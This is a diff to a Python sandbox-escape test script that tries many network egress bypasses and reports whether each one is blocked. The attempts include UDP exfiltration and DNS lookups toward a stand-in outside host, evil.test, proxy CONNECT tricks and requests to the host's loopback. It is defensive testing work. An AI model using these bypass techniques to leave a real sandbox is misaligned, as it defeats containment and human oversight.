@@ -1,8 +1,12 @@
-# Run as root inside a fenced sandbox (python3 - OUTSIDE GATEWAY PROXY_PORT < bypass.py): tries
-# every way out the fence must close and prints one line per attempt, "blocked NAME" or
-# "LEAKED NAME: what came back", then "tried N blocked M". OUTSIDE is the stand-in internet's
-# web server (port 80 and 8080 answer "outside says hi"); evil.test is not allowed, allowed.test
-# is. The caller also checks that nothing arrived outside (UDP, lookups).
+# Run as root inside a fenced sandbox (python3 - OUTSIDE GATEWAY PROXY_PORT HOST_PORT <
+# bypass.py): tries every way out the fence must close and prints one line per attempt,
+# "blocked NAME" or "LEAKED NAME: what came back", then "tried N blocked M". OUTSIDE is the
+# stand-in internet (fake_internet_up: every service there answers "outside says hi"); HOST_PORT
+# a service of the host's on every address that answers the same; evil.test is not allowed. The
+# caller also checks that nothing arrived outside (datagrams, lookups).
+#
+# It changes the network of the machine it runs on (addresses, routes, firewall): it refuses to
+# run anywhere but in a sandbox or a network namespace of a test's own.
 import os
 import socket
 import ssl
@@ -10,7 +14,12 @@ import struct
 import subprocess
 import sys
 
-OUTSIDE, GATEWAY, PROXY_PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
+if not os.path.exists("/var/lib/ss/provisioned") and not subprocess.run(
+        ["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True).stdout.strip():
+    sys.exit("bypass.py: not in a sandbox or a network namespace of a test's own; refusing")
+
+OUTSIDE, GATEWAY = sys.argv[1], sys.argv[2]
+PROXY_PORT, HOST_PORT = int(sys.argv[3]), int(sys.argv[4])
 MARK = b"outside says hi"
 results = []
 
@@ -19,7 +28,9 @@ def attempt(name):
     def wrap(fn):
         try:
             got = fn()
-        except OSError as e:  # refused, reset, unreachable, timed out: blocked
+        except FileNotFoundError as e:  # a missing tool must not pass for a blocked attempt
+            sys.exit(f"bypass.py: {name}: {e}")
+        except OSError:  # refused, reset, unreachable, timed out: blocked
             got = None
         if got and MARK in got:
             results.append(f"LEAKED {name}: {got[:80]!r}")
@@ -80,7 +91,10 @@ def _():
     with socket.create_connection((OUTSIDE, 443), timeout=5) as raw:
         with ctx.wrap_socket(raw) as s:
             s.sendall(get(OUTSIDE))
-            return s.recv(4096)
+            data = b""
+            while chunk := s.recv(65536):
+                data += chunk
+            return data
 
 
 @attempt("DNS-over-TLS (TCP 853)")
@@ -103,6 +117,15 @@ def _():
     for _ in range(3):
         u.sendto(b"exfiltrated", (OUTSIDE, 9999))
     return u.recv(2048)
+
+
+@attempt("a lookup of a disallowed name over UDP, to an outside resolver")
+def _():
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.settimeout(5)
+    u.sendto(dns_query("evil.test", 1), (OUTSIDE, 53))
+    reply = u.recv(512)
+    return MARK if reply[3] & 15 == 0 and struct.unpack("!H", reply[6:8])[0] > 0 else None
 
 
 @attempt("a TXT lookup carrying data, to an outside resolver")
@@ -153,9 +176,9 @@ def _():
     return tcp("2001:db8::2", 8080, get("x"), family=socket.AF_INET6, timeout=3)
 
 
-@attempt("the host's own services on the gateway (SSH)")
+@attempt("a service of the host's, on the gateway's address")
 def _():
-    return tcp(GATEWAY, 22, b"SSH-2.0-probe\r\n", timeout=3).replace(b"SSH-", MARK)
+    return tcp(GATEWAY, HOST_PORT, b"hello\n", timeout=3)
 
 
 @attempt("the proxy, CONNECT to a disallowed name")
@@ -171,11 +194,10 @@ def _():
                + get(OUTSIDE))
 
 
-@attempt("the proxy, to the host's loopback")
+@attempt("the proxy, to a service on the host's loopback")
 def _():
     return tcp(GATEWAY, PROXY_PORT,
-               b"GET http://127.0.0.1:22/ HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n").replace(
-                   b"SSH-", MARK)
+               f"GET http://127.0.0.1:{HOST_PORT}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
 
 
 @attempt("another address of its own, then TCP to another port")
